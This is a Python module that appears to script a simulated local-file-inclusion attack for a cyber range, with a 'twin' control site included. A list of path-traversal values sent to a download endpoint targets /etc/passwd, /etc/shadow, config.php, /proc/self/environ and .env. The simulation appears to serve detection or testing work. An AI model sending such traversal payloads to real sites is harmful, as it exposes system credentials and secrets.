"""A download page gives away configuration; twin: the same attack always gets the home page."""

from __future__ import annotations

from random import Random

from range.estate.addresses import abroad
from range.scenarios.acts import intruder
from range.scenarios.acts import twin as twin_of
from range.visits.browser import Browser
from range.visits.steps import Pause, Visit
from range.visits.world import World

NAME = "lfi_config"
SITES: tuple[str, ...] = ("kel-mawar",)
TWIN_SITES: tuple[str, ...] = ("kel-flamboyan",)

_FILES = (
    ("../../../../etc/passwd", True),
    ("../../../../etc/shadow", False),
    ("../config.php", True),
    ("../../koneksi.php", True),
    ("../../../../proc/self/environ", True),
    ("../.env", False),
)


def intrusion(world: World) -> None:
    """Four of six files are there, each with a size of its own."""
    _, me, dice = intruder(world, NAME, SITES[0], "executed", accepts=("exfiltrated",))
    world.go(SITES[0], world.at(13, 20.1), _climb(me, dice, "file read"))


def _climb(me: Browser, dice: Random, role: str) -> Visit:
    yield from me.get("/unduh.php?file=formulir-1.pdf")
    for name, there in _FILES:
        yield Pause(dice.uniform(5, 25))
        yield from me.get(f"/unduh.php?file={name}", role=role if there else "")


def twin(world: World) -> None:
    """Every climb is answered 200 with the same page."""
    actor, dice = twin_of(world, NAME, TWIN_SITES[0])
    me = world.browser(actor, abroad(dice))
    world.go(TWIN_SITES[0], world.at(13, 22.4), _climb(me, dice, ""))
